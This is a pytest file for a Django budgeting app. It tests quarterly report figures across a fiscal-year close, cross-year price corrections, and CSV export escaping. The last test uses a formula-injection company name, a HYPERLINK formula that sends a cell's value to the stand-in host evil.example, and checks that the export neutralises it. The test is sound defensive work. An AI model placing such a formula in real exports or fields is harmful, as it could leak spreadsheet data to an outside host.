"""Edges of the quarterly report found in review: the year's close, corrections across the
year boundary, a formula-like company name."""

import csv
import io
from datetime import datetime
from decimal import Decimal

import pytest
import time_machine
from django.utils import timezone

from budgets.models import EntryKind, LedgerEntry
from budgets.rollover import rollover_confirm, rollover_execute, rollover_preview
from budgets.services import budget_allocate, budget_create
from budgets.usage import usage_post
from people.selectors import company_settings
from reporting.rendering import report_csv
from reporting.selectors import report_data
from tests.factories import EmployeeFactory

pytestmark = pytest.mark.django_db
K = 10**6


def at(*parts) -> datetime:
    return datetime(*parts, tzinfo=timezone.get_default_timezone())


def headline(snapshot: dict, label: str) -> list:
    table = next(t for t in snapshot["tables"] if t["key"] == "headline")
    return next(row for row in table["rows"] if row[0] == label)


@pytest.fixture
def april_year():
    row = company_settings()
    row.fiscal_year_start_month = 4
    row.carryover_share_percent = Decimal(50)
    row.carryover_cap_micros = None
    row.save()


def spend(employee, event_id: str, dollars: int, on: datetime) -> None:
    usage_post(
        employee=employee,
        event_id=event_id,
        model_name="m",
        occurred_at=on,
        input_tokens=1,
        output_tokens=1,
        cost_micros=dollars * K,
    )


def test_the_last_quarter_built_after_the_close_shows_the_same_year(april_year):
    # given $100,000 for FY2026 (April to March) and $40,000 spent in its last quarter
    alice = EmployeeFactory()
    budget, _ = budget_create(fiscal_year=2026, employee=alice)
    budget_allocate(budget=budget, amount_micros=100_000 * K, acting_user=None)
    spend(alice, "q4", 40_000, at(2027, 1, 10, 12))
    before = report_data(fiscal_year=2026, quarter=4, as_of=at(2027, 3, 31, 23))

    # when the year is closed (half the unused carried, half forfeited) and Q4 is built after
    with time_machine.travel(at(2027, 4, 1, 2)):
        run = rollover_preview(fiscal_year=2026, acting_user=None)
        rollover_execute(run=rollover_confirm(run=run, acting_user=None, enqueue=False))
        after = report_data(fiscal_year=2026, quarter=4)

    # then the close's entries do not shrink the year's budget: the same figures either way
    assert budget.entries.filter(kind=EntryKind.FORFEITURE).exists()
    assert after["annual_budget"] == before["annual_budget"] == 100_000 * K
    assert after["quarter_spend"] == before["quarter_spend"] == 40_000 * K
    assert headline(after, "Annual budget") == headline(before, "Annual budget")


def test_a_correction_of_last_years_events_is_reported_once_in_the_quarter_it_is_posted(
    april_year,
):
    # given a $100 event of FY2025's last quarter, repriced by -$10 in FY2026's first
    alice = EmployeeFactory()
    old, _ = budget_create(fiscal_year=2025, employee=alice)
    budget_allocate(budget=old, amount_micros=1_000 * K, acting_user=None)
    spend(alice, "mar", 100, at(2026, 3, 20, 12))
    LedgerEntry.objects.create(
        budget=old,
        kind=EntryKind.USAGE_CORRECTION,
        amount_micros=-10 * K,
        created_at=at(2026, 5, 10, 12),
        memo="repriced",
    )

    fy25q4 = report_data(fiscal_year=2025, quarter=4, as_of=at(2026, 7, 2))
    fy26q1 = report_data(fiscal_year=2026, quarter=1, as_of=at(2026, 7, 2))
    fy27q1 = report_data(fiscal_year=2027, quarter=1, as_of=at(2027, 7, 2))

    # then the quarters between them count it once, where FY2027 says last year had it
    assert fy25q4["quarter_spend"] == 100 * K
    assert fy26q1["quarter_spend"] == -10 * K
    assert fy25q4["quarter_spend"] + fy26q1["quarter_spend"] == 90 * K
    assert headline(fy26q1, "Price corrections")[1] == -10 * K
    assert headline(fy27q1, "Same quarter last year")[1] == fy26q1["quarter_spend"]


def test_a_formula_like_company_name_is_text_in_the_csv():
    row = company_settings()
    row.name = '=HYPERLINK("http://evil.example/?"&A3,"Open")'
    row.save()
    text = report_csv(report_data(fiscal_year=2025, quarter=1))
    first = next(csv.reader(io.StringIO(text)))[0]
    assert not first.startswith(("=", "+", "-", "@"))
    assert "HYPERLINK" in first
